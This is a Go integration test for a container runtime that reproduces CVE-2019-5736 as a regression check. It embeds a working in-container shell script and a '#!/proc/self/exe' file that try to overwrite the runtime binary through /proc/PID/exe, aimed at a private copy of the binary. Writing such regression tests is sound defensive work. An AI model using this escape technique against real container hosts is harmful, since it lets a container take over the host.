package integration

import (
	"bytes"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	specs "github.com/opencontainers/runtime-spec/specs-go"
)

// attackScript is CVE-2019-5736 from inside the container: find a process
// that runs the runtime's binary, keep an fd of its /proc/PID/exe, and once
// the binary is no longer busy (ETXTBSY) reopen that fd for writing.
const attackScript = `cd /run/x
while :; do
  for d in /proc/[0-9]*; do
    if grep -q evil $d/cmdline 2>/dev/null; then pid=${d#/proc/}; break 2; fi
  done
done
if ! exec 3</proc/$pid/exe; then echo open-failed > result; exit; fi
cat fifo >/dev/null &
i=0
while [ $i -lt 300 ]; do
  if (echo pwned >/proc/self/fd/3) 2>/dev/null; then echo overwritten > result; exit; fi
  i=$((i+1)); usleep 10000
done
echo still-busy > result
`

// TestExecProcSelfExeAttack: the container makes the runtime execute its
// own binary inside the container (an executable whose interpreter is
// "#!/proc/self/exe", exactly the CVE's trick: exec-init's /proc/self/exe
// is whatever it runs from). That gorunc process blocks opening a fifo as
// its --log; the attacker grabs its /proc/PID/exe and, once it exits, tries
// to write through it. Run against a private copy of the binary, so a
// vulnerable build damages nothing but the copy.
func TestExecProcSelfExeAttack(t *testing.T) {
	e := newEnv(t, "sleep", "100")
	orig, err := os.ReadFile(e.bin)
	if err != nil {
		t.Fatal(err)
	}
	real := e.bin
	e.bin = filepath.Join(t.TempDir(), "gorunc-copy")
	// Registered after newEnv's: runs first, so the cleanup uses a
	// binary that works even if the attack succeeded.
	t.Cleanup(func() { e.bin = real })
	if err := os.WriteFile(e.bin, orig, 0o755); err != nil {
		t.Fatal(err)
	}
	x := t.TempDir()
	os.Chmod(x, 0o755)
	if err := syscall.Mkfifo(filepath.Join(x, "fifo"), 0o600); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(x, "evil"), []byte("#!/proc/self/exe --log=/run/x/fifo\n"), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(x, "attack.sh"), []byte(attackScript), 0o755); err != nil {
		t.Fatal(err)
	}
	e.spec.Mounts = append(e.spec.Mounts, specs.Mount{Destination: "/run/x", Type: "bind", Source: x, Options: []string{"rbind"}})
	e.writeSpec()
	e.must("run", "-d", "--bundle", e.bundle, "cve")
	e.waitStatus("cve", "running")
	e.must("exec", "-d", "cve", "sh", "/run/x/attack.sh")
	e.must("exec", "-d", "cve", "/run/x/evil")

	var result string
	// The script ends by itself (300 tries); the deadline only stops a
	// hung attack, with room for a loaded host (it took over 15 s once).
	for deadline := time.Now().Add(90 * time.Second); result == "" && time.Now().Before(deadline); time.Sleep(20 * time.Millisecond) {
		data, _ := os.ReadFile(filepath.Join(x, "result"))
		result = strings.TrimSpace(string(data))
	}
	now, err := os.ReadFile(e.bin)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(now, orig) {
		t.Fatalf("the container overwrote the runtime's binary through /proc/PID/exe (attacker says %q)", result)
	}
	if result == "" || result == "overwritten" {
		t.Fatalf("attack did not run to its end (result %q)", result)
	}
	t.Logf("attack result: %s; binary unchanged", result)
}
